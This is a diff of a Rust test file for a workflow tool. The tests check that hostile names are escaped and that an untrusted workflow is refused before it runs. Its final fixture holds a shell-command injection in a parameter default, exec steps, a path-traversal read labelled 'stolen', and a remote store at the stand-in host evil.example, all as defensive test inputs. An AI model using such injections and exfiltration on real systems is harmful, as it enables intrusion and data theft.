@@ -1,9 +1,7 @@
 //! Names with quotes, spaces, line ends, escape codes, direction marks and NUL: what the workflow
 //! names is refused at its place; what data, repositories and cells are called goes through every verb,
-//! shown escaped on terminals and quoted in what programs read.
-//!
-//! A stranger's workflow that tries everything at once: looking at it does nothing, in little time
-//! and memory, and a run stops before the first of it and names each. `trust` has the details.
+//! shown escaped on terminals and quoted in what programs read. And a stranger's workflow that tries
+//! everything at once: looking at it does nothing, and a run names each. `trust` has the details.
 
 use std::fs;
 use std::process::{Command, Stdio};
@@ -58,17 +56,9 @@ const PLACES: [(&str, &str, u64); 8] = [
         "steps:\n  STEP\n  b:\n    op: sql\n    from: { NAME: a }\n    with: { query: SELECT 1 AS x }\n",
         6,
     ),
-    (
-        "reference",
-        "steps:\n  STEP\n  b:\n    op: sample\n    from: NAME\n    with: { n: 1, seed: 1 }\n",
-        6,
-    ),
+    ("reference", "steps:\n  STEP\n  b: { op: sample, from: NAME, with: { n: 1, seed: 1 } }\n", 4),
     ("operator", "steps:\n  a:\n    op: NAME\n", 4),
-    (
-        "argument",
-        "steps:\n  a:\n    op: methods\n    with: { corpus: python-stdlib, NAME: 1 }\n",
-        5,
-    ),
+    ("argument", "steps:\n  a: { op: methods, with: { corpus: python-stdlib, NAME: 1 } }\n", 3),
 ];
 
 #[test]
@@ -102,15 +92,8 @@ name: {}
 description: {}
 steps:
   data: {{ op: read, with: {{ path: data.jsonl, key: [id] }} }}
-  cells:
-    op: sql
-    matrix: {{ m: [{cells}] }}
-    from: data
-    with: {{ query: SELECT * FROM input }}
-  all:
-    op: sql
-    from: cells[*]
-    with: {{ query: \"SELECT * FROM input WHERE n > 0\", key: [id, m] }}
+  cells: {{ op: sql, matrix: {{ m: [{cells}] }}, from: data, with: {{ query: SELECT * FROM input }} }}
+  all: {{ op: sql, from: 'cells[*]', with: {{ query: \"SELECT * FROM input WHERE n > 0\", key: [id, m] }} }}
   valid: {{ op: validate, from: data, with: {{ rules: [{{ name: big, check: n > 1 }}] }} }}
 outputs:
   csv: {{ from: all, path: out/all.csv }}
@@ -278,13 +261,8 @@ fn outputs_go_where_their_path_says_or_are_refused() {
 fn repositories_are_mined_or_refused_at_their_place() {
     for name in NAMES.iter().filter(|name| !name.contains('\0')) {
         let project = Project::steps(&format!(
-            "  repos:
-    op: query
-    with: {{ repos: [{}] }}
-  mined:
-    op: mine
-    from: repos
-    with: {{ since: 2020-01-01, until: 2030-01-01 }}
+            "  repos: {{ op: query, with: {{ repos: [{}] }} }}
+  mined: {{ op: mine, from: repos, with: {{ since: 2020-01-01, until: 2030-01-01 }} }}
 ",
             quoted(&format!("./{name}"))
         ));
@@ -306,7 +284,7 @@ fn repositories_are_mined_or_refused_at_their_place() {
                     harmless(name, &project.run(verb).exits(0));
                 }
             }
-            _ => assert!(outcome.exits(2).stderr.contains("w.yaml:5:"), "{name:?}"),
+            _ => assert!(outcome.exits(2).stderr.contains("w.yaml:3:"), "{name:?}"),
         }
     }
 }
@@ -342,12 +320,8 @@ remote: { url: 'http://evil.example:8080/store' }
 params:
   words: { type: string, default: '$(touch hit)`touch hit`; touch hit' }
 steps:
-  hit:
-    op: exec
-    with: { command: \"touch hit #\\e[31m\", output: { id: utf8! } }
-  said:
-    op: exec
-    with: { command: 'echo ${{ params.words }}', output: { id: utf8! } }
+  hit: { op: exec, with: { command: \"touch hit #\\e[31m\", output: { id: utf8! } } }
+  said: { op: exec, with: { command: 'echo ${{ params.words }}', output: { id: utf8! } } }
   stolen: { op: read, with: { path: ../outside.csv } }
   prompts: { op: prompt, from: stolen, with: { treatments: { all: '{{ id }}' } } }
   sent:
